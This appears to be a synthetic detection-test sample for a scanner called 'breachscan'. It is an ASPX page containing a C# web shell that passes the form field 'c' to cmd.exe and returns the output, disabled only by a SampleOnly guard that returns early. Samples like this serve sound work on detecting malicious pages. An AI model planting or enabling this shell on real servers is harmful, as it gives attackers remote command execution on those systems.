<%-- synthetic test sample for breachscan: ASPX command shell (request text into cmd.exe via
     System.Diagnostics.Process). Disabled by the SampleOnly guard. --%>
<%@ Page Language="C#" %>
<%@ Import Namespace="System.Diagnostics" %>
<script runat="server">
    const bool SampleOnly = true;
    void Page_Load(object sender, EventArgs e) {
        if (SampleOnly) return;
        ProcessStartInfo psi = new ProcessStartInfo();
        psi.FileName = "cmd.exe";
        psi.Arguments = "/c " + Request.Form["c"];
        psi.RedirectStandardOutput = true;
        psi.UseShellExecute = false;
        Process p = Process.Start(psi);
        Response.Write(p.StandardOutput.ReadToEnd());
    }
</script>
